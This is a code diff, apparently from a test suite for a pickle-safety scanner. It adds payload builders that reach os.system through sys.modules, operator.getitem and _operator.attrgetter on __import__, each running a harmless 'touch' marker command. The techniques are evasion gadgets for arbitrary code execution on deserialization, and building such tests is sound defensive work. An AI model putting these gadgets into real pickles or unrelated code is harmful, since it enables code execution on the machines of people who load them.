@@ -164,6 +164,18 @@ def payload_bodies(work: str) -> dict[str, tuple[str, bytes]]:
         "STACK_GLOBAL dotted name torch.serialization -> os.system",
         lambda m, c: call(op.stack_global("torch", "serialization.os.system"), t(f"touch {m}")),
     )
+    add("sys_modules_getitem", "operator.getitem(sys.modules, 'os').system", via_sys_modules)
+    add(
+        "c_operator_attrgetter",
+        "_operator.attrgetter (C module name) on builtins.__import__",
+        lambda m, c: call(
+            call(
+                call(g("_operator", "attrgetter"), t("system")),
+                call(g("builtins", "__import__"), t("os")),
+            ),
+            t(f"touch {m}"),
+        ),
+    )
     add(
         "asyncio_subprocess",
         "asyncio.create_subprocess_shell",
@@ -220,6 +232,13 @@ def via_methodcaller(mark: str, code: str) -> bytes:
 def via_getattr(mark: str, code: str) -> bytes:
     """getattr(__import__('os'), 'system')('touch ...')."""
     module = op.call(op.global_op("builtins", "__import__"), op.text("os"))
+    return op.call(op.attribute_of(module, "system"), op.text(f"touch {mark}"))
+
+
+def via_sys_modules(mark: str, code: str) -> bytes:
+    """getattr(operator.getitem(sys.modules, 'os'), 'system')('touch ...')."""
+    modules = op.global_op("sys", "modules")
+    module = op.call(op.global_op("operator", "getitem"), modules, op.text("os"))
     return op.call(op.attribute_of(module, "system"), op.text(f"touch {mark}"))
 
 
